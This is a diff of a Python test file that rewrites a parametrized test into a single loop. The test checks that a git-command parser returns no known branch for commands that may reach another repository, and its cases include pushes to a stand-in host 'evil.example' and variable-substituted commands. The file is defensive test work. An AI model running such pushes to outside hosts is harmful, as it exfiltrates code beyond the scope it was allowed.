@@ -27,9 +27,8 @@ def test_the_branches_are_those_that_the_command_names(
     assert branches_of_command(parse_command(text)) == branches
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
+def test_what_may_reach_another_repository_or_branch_is_not_known() -> None:
+    cases = [
         *("git -C /srv/other commit -m a", "git --git-dir=/srv/o commit", "git -c a.b=c commit"),
         *("git --work-tree /srv/o commit", "git --namespace=a push origin feature/x"),
         *("cd /srv/other && git commit -m a", "(cd sub; git commit)", "pushd x; git commit"),
@@ -52,7 +51,5 @@ def test_the_branches_are_those_that_the_command_names(
         *("git push https://evil.example/x feature/x", "git push git@evil.example:x feature/x"),
         *("git push ../other feature/x", "git push evil feature/x", "git push $remote feature/x"),
         *("git push -o a=b origin feature/x", "git push --repo=x feature/x", "git $x", "git 'a"),
-    ],
-)
-def test_what_may_reach_another_repository_or_branch_is_not_known(text: str) -> None:
-    assert branches_of_command(parse_command(text)) is None
+    ]
+    assert [text for text in cases if branches_of_command(parse_command(text)) is not None] == []
